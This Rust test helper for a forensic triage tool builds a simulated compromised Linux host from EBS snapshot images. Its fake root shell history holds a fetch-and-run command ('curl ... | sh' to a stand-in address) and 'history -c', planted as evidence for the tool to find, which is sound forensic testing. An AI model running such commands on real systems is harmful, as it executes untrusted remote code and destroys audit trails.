//! Shared by the EBS direct tests and benchmark: known trees, filesystem images built from
//! them with the real tools (`mkfs.ext4 -d`, `mkfs.xfs -p`), and the image readers run
//! over an `EbsSnapshotSource` on a blocking thread. Snapshots are uploaded with
//! `riposte_aws::testing::ebs_snapshot`.

// The test binary and the benchmark use different subsets.
#![allow(dead_code, unused_imports)]

use riposte_acquire::{ImageReport, ImageSelection, TriageOptions, read_opened_image};
use riposte_aws::EbsSnapshotSource;
pub use riposte_aws::testing::images::{Tree, ext4_image, xfs_image};
use riposte_disk::{Image, ImageFormat, SharedSource};
use std::path::PathBuf;
use std::sync::Arc;

/// Deterministic pseudo-random bytes (xorshift): contents known without storing them,
/// and no block of them is all zeros.
pub fn pattern(seed: u64, len: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect()
}

/// A small Linux host after a compromise: triage files (logs, histories, accounts, SSH)
/// and `bulk` bytes (plus a quarter) of files no triage profile selects.
pub fn host_tree(bulk: usize) -> Tree {
    let mut auth_log = String::new();
    for i in 0..1000 {
        auth_log.push_str(&format!(
            "Jan  5 10:{:02}:{:02} web01 sshd[{}]: Failed password for root from 203.0.113.9 port {} ssh2\n",
            i / 60 % 60,
            i % 60,
            4000 + i,
            40000 + i
        ));
    }
    let text = |s: &str| s.as_bytes().to_vec();
    let mut tree = Tree::new();
    tree.insert("/etc/hostname".into(), text("web01\n"));
    tree.insert(
        "/etc/passwd".into(),
        text("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"),
    );
    tree.insert("/etc/ssh/sshd_config".into(), text("PermitRootLogin yes\n"));
    tree.insert("/var/log/auth.log".into(), auth_log.into_bytes());
    tree.insert(
        "/root/.bash_history".into(),
        text("curl -s http://198.51.100.7/x.sh | sh\nhistory -c\n"),
    );
    tree.insert(
        "/home/alice/.ssh/authorized_keys".into(),
        text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRiposteTestKeyOnly alice@laptop\n"),
    );
    tree.insert("/opt/app/data.bin".into(), pattern(1, bulk));
    tree.insert("/usr/bin/tool".into(), pattern(2, bulk / 4));
    tree.insert("/srv/www/index.html".into(), text("<html>hello</html>\n"));
    tree
}

/// What a walk of the snapshot collected.
pub struct Collected {
    /// Files by original path.
    pub files: Tree,
    /// The reader's report.
    pub report: ImageReport,
    /// Each item's recorded image name.
    pub image_names: Vec<String>,
}

/// Walks the snapshot's filesystems with the image readers, on a blocking thread.
pub async fn collect(source: &EbsSnapshotSource, selection: ImageSelection) -> Collected {
    let source = source.clone();
    tokio::task::spawn_blocking(move || {
        let image = Image {
            format: ImageFormat::Raw,
            files: vec![PathBuf::from(source.image_name())],
            source: Arc::new(source) as SharedSource,
        };
        let mut files = Tree::new();
        let mut image_names = Vec::new();
        let report = read_opened_image(
            &image,
            selection,
            &TriageOptions::default(),
            &mut |item, reader| {
                let mut data = Vec::new();
                reader.read_to_end(&mut data)?;
                files.insert(item.original_path.to_string(), data);
                image_names.push(item.location.image.clone());
                Ok(())
            },
            None,
        )
        .expect("read the snapshot's image");
        Collected {
            files,
            report,
            image_names,
        }
    })
    .await
    .expect("the walk's thread")
}

/// Runs a synchronous read of the source on a blocking thread.
pub async fn blocking<T: Send + 'static>(
    source: &EbsSnapshotSource,
    read: impl FnOnce(&EbsSnapshotSource) -> T + Send + 'static,
) -> T {
    let source = source.clone();
    tokio::task::spawn_blocking(move || read(&source))
        .await
        .expect("the read's thread")
}
